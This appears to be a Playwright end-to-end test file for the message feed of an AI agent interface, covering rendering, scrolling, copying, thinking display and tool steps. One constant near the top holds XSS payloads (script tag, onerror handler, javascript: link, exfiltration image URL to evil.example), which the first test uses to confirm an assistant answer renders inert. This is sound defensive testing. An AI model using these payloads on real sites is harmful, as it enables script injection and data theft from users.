@@ -1,0 +1,241 @@
+"""The feed: what it shows, how it scrolls, what is copied."""
+
+from __future__ import annotations
+
+import re
+
+from playwright.sync_api import Page, expect
+
+from tests.e2e.conftest import OpenScreen
+from tests.e2e.screen import Screen
+from tests.e2e.staged import Stage, history, message
+
+ATTACK = """<script>document.title = 'owned'</script><img src=x onerror="document.title='owned'">
+[click](javascript:alert(1)) ![pixel](https://evil.example/steal?x=1)"""
+
+
+def test_an_answer_of_a_model_is_inert(screen: Screen) -> None:
+    wanted: list[str] = []
+    screen.page.on("request", lambda request: wanted.append(request.url))
+    Stage(screen, [message(1, "user", "go"), message(2, "assistant", ATTACK)])
+    expect(screen.feed.get_by_text("<script>")).to_be_visible()
+    assert screen.page.title() == "Staged"
+    assert not [url for url in wanted if "evil.example" in url]
+    links = screen.feed.locator("a").evaluate_all("links => links.map(link => link.href)")
+    assert links == ["https://evil.example/steal?x=1"]
+
+
+def test_unfinished_markdown_does_not_show_its_bones(screen: Screen) -> None:
+    stage = Stage(screen)
+    stage.begin()
+    for piece in ("# Ti", "tle\n\nSome **bo", "ld** text\n\n```py", "thon\nprint(1)\n"):
+        stage.say(piece)
+    expect(screen.feed.get_by_role("heading", name="Title")).to_be_visible()
+    expect(screen.feed.locator("strong", has_text="bold")).to_be_visible()
+    code = screen.feed.locator("pre")
+    expect(code).to_have_text("print(1)")
+    assert code.locator("span").count() == 0
+    stage.say("```\n\nDone.")
+    expect(code.locator("span").first).to_be_visible()
+
+
+def test_the_feed_follows_its_end(screen: Screen) -> None:
+    stage = Stage(screen, history(30))
+    expect(screen.feed.get_by_text("Page 30 says")).to_be_visible()
+    screen.wait_at_end()
+    stage.begin()
+    for number in range(12):
+        stage.say(f"Paragraph {number} of the answer.\n\n")
+        stage.tool(f"step {number}")
+    expect(screen.feed.get_by_text("Paragraph 11 of")).to_be_in_viewport()
+    screen.wait_at_end()
+
+
+def test_who_scrolled_up_is_left_alone_and_can_jump_to_what_is_new(screen: Screen) -> None:
+    stage = Stage(screen, history(30))
+    expect(screen.feed.get_by_text("Page 30 says")).to_be_visible()
+    stage.begin()
+    scroll_up(screen)
+    before = screen.feed.evaluate("feed => feed.scrollTop")
+    stage.play(stage.event("message", message=message(31, "user", "and now?", run_id="run")))
+    for number in range(20):
+        stage.say(f"Line {number} that must not move anything.\n\n")
+    screen.page.wait_for_timeout(300)
+    assert screen.feed.evaluate("feed => feed.scrollTop") == before
+    screen.button("2 new").click()
+    screen.wait_at_end()
+    expect(screen.feed.get_by_text("Line 19")).to_be_in_viewport()
+
+
+def test_the_end_key_goes_to_the_end(screen: Screen) -> None:
+    Stage(screen, history(60))
+    expect(screen.feed.get_by_text("Page 60 says")).to_be_visible()
+    scroll_up(screen)
+    screen.feed.focus()
+    screen.page.keyboard.press("Home")
+    expect(screen.feed.get_by_text("Please look at page 1", exact=True)).to_be_in_viewport()
+    screen.page.keyboard.press("End")
+    screen.wait_at_end()
+
+
+def test_a_session_opens_where_it_was_left(screen: Screen) -> None:
+    Stage(screen, history(90))
+    expect(screen.feed.get_by_text("Page 90 says")).to_be_in_viewport()
+    scroll_up(screen)
+    top = first_row_in_sight(screen.page)
+    screen.sidebar.get_by_role("link", name="Pilothouse").click()
+    expect(screen.feed).to_have_count(0)
+    screen.page.go_back()
+    expect(screen.feed.get_by_text("Please look").first).to_be_visible()
+    screen.page.wait_for_function(f"() => ({FIRST_ROW})() === {top}")
+
+
+def test_a_long_history_is_light(screen: Screen) -> None:
+    Stage(screen, history(1500))
+    expect(screen.feed.get_by_text("Page 1500 says")).to_be_in_viewport()
+    assert screen.feed.evaluate("feed => feed.querySelectorAll('*').length") < 1500
+    screen.wait_at_end()
+
+
+def test_a_fast_stream_costs_little(screen: Screen) -> None:
+    stage = Stage(screen, history(30))
+    session = screen.page.context.new_cdp_session(screen.page)
+    session.send("Performance.enable", {"timeDomain": "threadTicks"})
+    stage.begin()
+
+    def script_seconds() -> float:
+        metrics = session.send("Performance.getMetrics")["metrics"]
+        return float(next(metric["value"] for metric in metrics if metric["name"] == "ScriptDuration"))
+
+    words = "The quick brown fox jumps over the **lazy** dog and `reads` on.\n\n".split(" ")
+    tokens = [stage.event("token", message_id="answer", text=words[n % len(words)] + " ") for n in range(1000)]
+    before = script_seconds()
+    screen.page.evaluate(
+        """async events => { for (let at = 0; at < events.length; at += 5) {
+            window.stage.play(events.slice(at, at + 5)); await new Promise(requestAnimationFrame) } }""",
+        tokens,
+    )
+    assert script_seconds() - before < 0.6
+
+
+def test_messages_and_code_are_copied(open_screen: OpenScreen) -> None:
+    screen = open_screen(permissions=["clipboard-read", "clipboard-write"])
+    text = "Look:\n\n```python\nprint('hi')\n```"
+    Stage(screen, [message(1, "user", "go"), message(2, "assistant", text)])
+    screen.feed.get_by_role("button", name="Copy", exact=True).last.click()
+    expect(screen.feed.get_by_role("button", name="Copied")).to_be_visible()
+    assert clipboard(screen.page) == "print('hi')"
+    answer = screen.feed.get_by_role("article").last
+    answer.hover()
+    answer.get_by_role("button", name="Copy as Markdown").click()
+    screen.page.wait_for_function("async () => (await navigator.clipboard.readText()).startsWith('Look')")
+    assert clipboard(screen.page) == text
+    expect(answer.get_by_role("button", name="Copied")).to_have_count(0, timeout=3000)
+
+
+def test_copying_works_without_the_clipboard_api(screen: Screen) -> None:
+    screen.page.add_init_script("Object.defineProperty(navigator, 'clipboard', {value: undefined})")
+    Stage(screen, [message(1, "user", "go"), message(2, "assistant", "the answer")])
+    screen.page.evaluate("document.addEventListener('copy', () => { window.copied = getSelection().toString() })")
+    screen.feed.get_by_role("article").last.hover()
+    screen.button("Copy as Markdown").click()
+    expect(screen.button("Copied")).to_be_visible()
+    assert screen.page.evaluate("window.copied") == "the answer"
+
+
+def test_code_scrolls_inside_its_block_only(screen: Screen) -> None:
+    Stage(screen, [message(1, "user", "go"), message(2, "assistant", f"```json\n{'x' * 400}\n```")])
+    expect(screen.feed.get_by_text("json", exact=True)).to_be_visible()
+    assert screen.feed.locator("pre").evaluate("pre => pre.scrollWidth > pre.clientWidth")
+    assert screen.feed.evaluate("feed => feed.scrollWidth <= feed.clientWidth")
+
+
+def test_thinking_is_one_line_until_it_is_opened(screen: Screen) -> None:
+    stage = Stage(screen)
+    stage.begin()
+    stage.play(stage.event("thinking", message_id="answer", text="A secret plan."))
+    expect(screen.feed.get_by_text(re.compile("^Thinking"))).to_be_visible()
+    stage.say("Done.")
+    line = screen.feed.get_by_role("button", name=re.compile("^Thought for"))
+    expect(line).to_have_attribute("aria-expanded", "false")
+    expect(screen.feed.get_by_text("A secret plan.")).to_have_count(0)
+    line.press("Enter")
+    expect(screen.feed.get_by_text("A secret plan.")).to_be_visible()
+
+
+def test_a_step_says_what_it_did_and_keeps_its_json_folded(screen: Screen) -> None:
+    stage = Stage(screen)
+    stage.begin()
+    args = {"element": 'button "Add to basket"', "reason": "It is the cheapest."}
+    stage.play(stage.event("tool_start", call_id="a", name="click", args=args))
+    running = screen.feed.locator("[data-status=running]")
+    expect(running).to_contain_text(re.compile(r"Click Add to basket.*running · \d+s"))
+    end = {"ok": True, "summary": "Clicked it", "duration_ms": 400, "url": "https://shop.example/basket"}
+    stage.play(stage.event("tool_end", call_id="a", name="click", **end))
+    line = screen.feed.get_by_role("button", name=re.compile("Clicked Add to basket"))
+    expect(line).to_contain_text("shop.example · 0.4s · ok")
+    expect(screen.feed.get_by_text("It is the cheapest.")).to_have_count(0)
+    line.click()
+    expect(screen.feed.get_by_text("It is the cheapest.")).to_be_visible()
+    stage.tool("b", ok=False, summary="The button is covered by a dialog.")
+    expect(screen.feed.get_by_text("The button is covered by a dialog.")).to_be_visible()
+
+
+def test_many_steps_fold_into_one_line(screen: Screen) -> None:
+    stage = Stage(screen)
+    stage.begin()
+    for number in range(12):
+        stage.tool(f"step {number}", url="https://shop.example/")
+    group = screen.feed.get_by_role("button", name=re.compile("^10 steps"))
+    expect(group).to_contain_text("shop.example")
+    expect(screen.feed.get_by_text("step 11")).to_be_visible()
+    expect(screen.feed.get_by_text("step 3")).to_have_count(0)
+    group.click()
+    expect(screen.feed.get_by_text("step 3")).to_be_visible()
+    final = message(99, "assistant", "All done.", id="answer", run_id="run")
+    usage = {"input_tokens": 1, "output_tokens": 1, "cached_tokens": 0, "model_calls": 1}
+    stage.play(stage.event("done", message=final, usage=usage))
+    expect(screen.feed.get_by_role("button", name=re.compile("^12 steps"))).to_be_visible()
+
+
+def test_screenshots_are_small_described_and_open_large(screen: Screen) -> None:
+    session = screen.begin("shop for a kettle")
+    expect(screen.button("Approve")).to_be_visible()
+    thumb = screen.feed.locator("[data-tool=click]").first.get_by_role("button", name=re.compile("^Enlarge"))
+    picture = thumb.locator("img")
+    expect(picture).to_have_attribute("alt", re.compile("^Screenshot: shop.example"))
+    expect(picture).to_have_attribute("loading", "lazy")
+    size = thumb.bounding_box()
+    assert size and abs(size["width"] / size["height"] - 1.6) < 0.05
+    thumb.click()
+    viewer = screen.page.get_by_role("dialog")
+    expect(viewer).to_contain_text("2 of 3")
+    screen.page.keyboard.press("ArrowRight")
+    expect(viewer).to_contain_text("3 of 3")
+    screen.page.keyboard.press("Home")
+    expect(viewer).to_contain_text("1 of 3")
+    screen.page.keyboard.press("Escape")
+    expect(viewer).to_have_count(0)
+    expect(thumb).to_be_focused()
+    screen.api.post(f"/sessions/{session}/cancel")
+
+
+FIRST_ROW = """() => { const feed = document.getElementById('feed'), top = feed.getBoundingClientRect().top;
+    const rows = [...feed.querySelectorAll('[role=article]')].filter(r => r.getBoundingClientRect().bottom > top + 1);
+    return Math.min(...rows.map(row => Number(row.dataset.index))) }"""
+
+
+def first_row_in_sight(page: Page) -> int:
+    return int(page.evaluate(FIRST_ROW))
+
+
+def scroll_up(screen: Screen) -> None:
+    """As a wheel does, until the button back to the end is there."""
+    screen.feed.hover()
+    screen.page.mouse.wheel(0, -900)
+    expect(screen.button("Latest")).to_be_visible()
+    screen.page.wait_for_timeout(300)
+
+
+def clipboard(page: Page) -> str:
+    return str(page.evaluate("navigator.clipboard.readText()"))
